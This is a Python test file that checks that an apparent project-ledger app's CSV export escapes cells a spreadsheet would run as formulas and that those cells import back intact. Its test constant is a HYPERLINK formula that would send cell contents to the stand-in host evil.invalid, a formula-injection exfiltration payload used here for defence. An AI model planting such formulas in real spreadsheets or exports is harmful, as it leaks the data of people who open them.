"""CSV export against formula injection: a cell a spreadsheet would run is written as text, and imports back."""

from __future__ import annotations

import csv
import io

from zonedesk.ledgerio.export import csv_escape, csv_unescape, export_projects
from zonedesk.ledgerio.importer import apply_import, plan_import
from zonedesk.projects import selectors
from zonedesk.projects.models import Project
from zonedesk.projects.selectors import ProjectFilters

HOSTILE = '=HYPERLINK("http://evil.invalid/?d="&A1,"点击查看")'


def _csv(world) -> tuple[bytes, list[list[str]]]:
    qs = selectors.project_list(world.officer_a, ProjectFilters(zone=world.zone_a.pk))
    content, _name, _ctype = export_projects(qs, fmt="csv", zone_label=world.zone_a.name, unit_label="")
    return content, list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_each_formula_start_is_escaped_and_only_those():
    assert [csv_escape(t) for t in ["=1+1", "+86", "-3", "@SUM(A1)", "\tx", "\rx"]] == [
        "'=1+1",
        "'+86",
        "'-3",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
    ]
    assert [csv_escape(t) for t in ["长治项目", "1=1", "'引号", ""]] == ["长治项目", "1=1", "'引号", ""]
    assert [csv_unescape(csv_escape(t)) for t in ["=1+1", "+86", "'引号", "'"]] == [
        "=1+1",
        "+86",
        "'引号",
        "'",
    ]


def test_project_named_as_a_formula_exports_escaped(world):
    world.project(name=HOSTILE, leader_name="@张主任", pursuing_unit=world.centre_a.pk)
    _content, rows = _csv(world)
    header, row = rows[0], rows[1]
    assert row[header.index("项目名称")] == "'" + HOSTILE
    assert row[header.index("包联领导")] == "'@张主任"
    assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_escaped_export_imports_back_unchanged_and_recreates_the_real_name(world):
    world.project(name=HOSTILE, leader_name="@张主任", pursuing_unit=world.centre_a.pk)
    content, _rows = _csv(world)
    plan = plan_import(content, user=world.officer_a, zone=world.zone_a, file_name="导出.csv")
    assert plan.error_list == []
    assert (plan.counts["unchanged"], plan.counts["created"], plan.counts["updated"]) == (1, 0, 0)

    Project.objects.filter(zone=world.zone_a).delete()
    plan, _batch = apply_import(content, user=world.officer_a, zone=world.zone_a, file_name="导出.csv")
    assert plan.counts["created"] == 1
    project = Project.objects.get(zone=world.zone_a)
    assert (project.name, project.leader_name) == (HOSTILE, "@张主任")
